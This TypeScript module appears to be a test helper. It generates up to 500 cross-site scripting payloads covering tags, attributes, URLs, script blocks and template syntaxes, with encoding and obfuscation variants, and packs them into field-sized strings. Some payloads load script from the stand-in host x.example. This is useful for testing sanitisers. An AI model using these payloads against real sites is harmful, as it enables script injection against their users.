/**
 * Five hundred ways to have words run, chosen by where they might land: between tags, in an attribute, in an address, in a
 * script, in a style, in our own templates, and what parsers mistake. Each calls `x()`, or asks for `//x.example`.
 */
const between = [
  '<script>x()</script>',
  '<script src=//x.example></script>',
  '<img src onerror=x()>',
  '<svg onload=x()>',
  '<svg><script>x()</script></svg>',
  '<svg><animate onbegin=x() attributeName=x dur=1s>',
  '<svg><a href=javascript:x()><text y=9>a</text></a></svg>',
  '<math><mi href=javascript:x()>a</mi></math>',
  '<iframe src=javascript:x()>',
  '<iframe srcdoc="<script>parent.x()</script>">',
  '<embed src=javascript:x()>',
  '<object data=javascript:x()>',
  '<form action=javascript:x()><button>a</button></form>',
  '<button formaction=javascript:x()>a</button>',
  '<a href=javascript:x()>a</a>',
  '<details open ontoggle=x()>',
  '<input autofocus onfocus=x()>',
  '<video><source onerror=x()></video>',
  '<audio src onerror=x()>',
  '<body onload=x()>',
  '<marquee onstart=x()>a</marquee>',
  '<meta http-equiv=refresh content="0;url=javascript:x()">',
  '<base href=//x.example/>',
  '<link rel=stylesheet href=//x.example>',
  '<style>@import"//x.example"</style>',
  '<style onload=x()></style>',
  '<template><script>x()</script></template>',
  '<noscript><p title="</noscript><img src onerror=x()>">',
  '<textarea></textarea><img src onerror=x()>',
  '<title></title><img src onerror=x()>',
  '<xmp></xmp><img src onerror=x()>',
  '<dialog open onclose=x()>',
  '<p contenteditable autofocus onfocus=x()>',
  '<div popover onbeforetoggle=x()>',
]
const attribute = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onpointerenter', 'onanimationstart']
const closing = ['"', "'", '">', "'>", '`', '" autofocus ', '"/', '-->']
const addresses = [
  'javascript:x()',
  'JaVaScRiPt:x()',
  'java\tscript:x()',
  'java\nscript:x()',
  'javascript&colon;x()',
  'javascript&#58;x()',
  '&#106;avascript:x()',
  ' javascript:x()',
  'javascript://%0ax()',
  'data:text/html,<script>x()</script>',
  'vbscript:x()',
  '//x.example',
  '/\\x.example',
  'https:x.example',
  'http://localhost@x.example',
]
const script = [
  '</script><script>x()</script>',
  '</script><img src onerror=x()>',
  '";x();//',
  "';x();//",
  '`;x();//',
  '\\";x();//',
  `$\{x()}`,
  '\u2028x()\u2029',
  '<!--<script>',
  '--><script>x()</script>',
  ']]><script>x()</script>',
  '</ScRiPt ><svg/onload=x()>',
  '*/x()/*',
  '};x();{',
]
const templates = [
  '{{x()}}',
  '{x()}',
  '{@html x()}',
  '<%=x()%>',
  '#{x()}',
  '{{constructor.constructor("x()")()}}',
]
const written: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('X()', 'x()'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\n'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => `"'>${text}`,
  (text) => `--></textarea></title></style></script>${text}`,
  (text) => text.replaceAll('x()', 'alert(1)'),
  (text) => `<p title="${text}`,
  (text) => `\\"${text}`,
]

const inAttributes = closing.flatMap((close) => attribute.map((handler) => `${close}${handler}=x() x="`))
const all = [
  ...written.flatMap((write) => between.map(write)),
  ...inAttributes,
  ...addresses,
  ...addresses.map((address) => `[a](${address})`),
  ...addresses.map((address) => `"><a href="${address}" autofocus>a</a>`),
  ...script,
  ...script.map((text) => `"${text}`),
  ...templates,
  ...templates.map((text) => `<p>${text}</p>`),
]

export const payloads = [...new Set(all)].slice(0, 500)

/** As many payloads to a text as a field of that length takes, so that all of them are in these texts. */
export function textsOf(most: number): string[] {
  const texts: string[] = []
  let text = ''
  for (const payload of payloads) {
    if (text.length + payload.length + 1 > most) {
      texts.push(text)
      text = ''
    }
    text += `${text && ' '}${payload.trim()}`
  }
  return [...texts, text]
}
